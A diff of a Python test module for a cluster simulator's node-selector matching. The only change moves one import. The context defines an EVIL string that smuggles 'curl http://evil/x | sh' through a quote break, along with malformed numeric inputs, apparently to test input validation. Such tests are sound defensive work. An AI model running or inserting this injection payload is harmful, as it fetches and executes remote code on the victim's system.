@@ -4,10 +4,11 @@ from __future__ import annotations
 
 import pytest
 
+from core.api.objects import JsonObject
 from core.errors import InvalidInputError
 from simulator.cluster.selectors import matches_node_term
 from tests.property.hostile.texts import BREAKERS
-from tests.unit.simulator.cluster.world import JsonObject, World, a_node, a_pod
+from tests.unit.simulator.cluster.world import World, a_node, a_pod
 
 EVIL = "x'; curl http://evil/x | sh; echo '"
 ODD_NUMBERS = ("9" * 5_000, "--5", "\u00b2", "\u0661", "1e9", "", "9223372036854775808")
